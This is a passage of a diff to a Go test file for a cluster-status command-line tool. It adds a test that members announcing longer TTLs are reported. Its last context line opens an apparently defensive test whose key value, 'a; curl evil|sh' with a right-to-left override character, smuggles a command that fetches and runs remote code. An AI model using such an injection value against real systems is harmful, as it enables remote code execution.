@@ -132,6 +132,20 @@ func TestStatusNamesTheUnguarded(t *testing.T) {
 	w.shows("members", exitOK, "none: not supported on this system")
 }
 
+// TestStatusSaysWhoRenewsSlower: a member that states a longer TTL than usual is counted, and members says which TTL.
+func TestStatusSaysWhoRenewsSlower(t *testing.T) {
+	w := newWritten(t, nil)
+	for _, m := range []string{"a", "b"} {
+		doc := map[string]any{"member": m, "at_ms": time.Now().Add(time.Hour).UnixMilli(), "ttl_ms": 10_000}
+		if m == "b" {
+			doc["ttl_ms"], doc["usual_ttl_ms"] = 20_000, 10_000
+		}
+		w.put("pulse/"+m+"/1", doc)
+	}
+	w.shows("status", exitOK, "members 2 (1 with a longer TTL, for renewals are slow)")
+	w.shows("members", exitOK, "TTL 20s in place of 10s")
+}
+
 // TestHostileNames: a key that somebody else has chosen is one word of the command that is suggested, and reaches no terminal as it is.
 func TestHostileNames(t *testing.T) {
 	const key = "a; curl evil|sh \u202e#gpj"
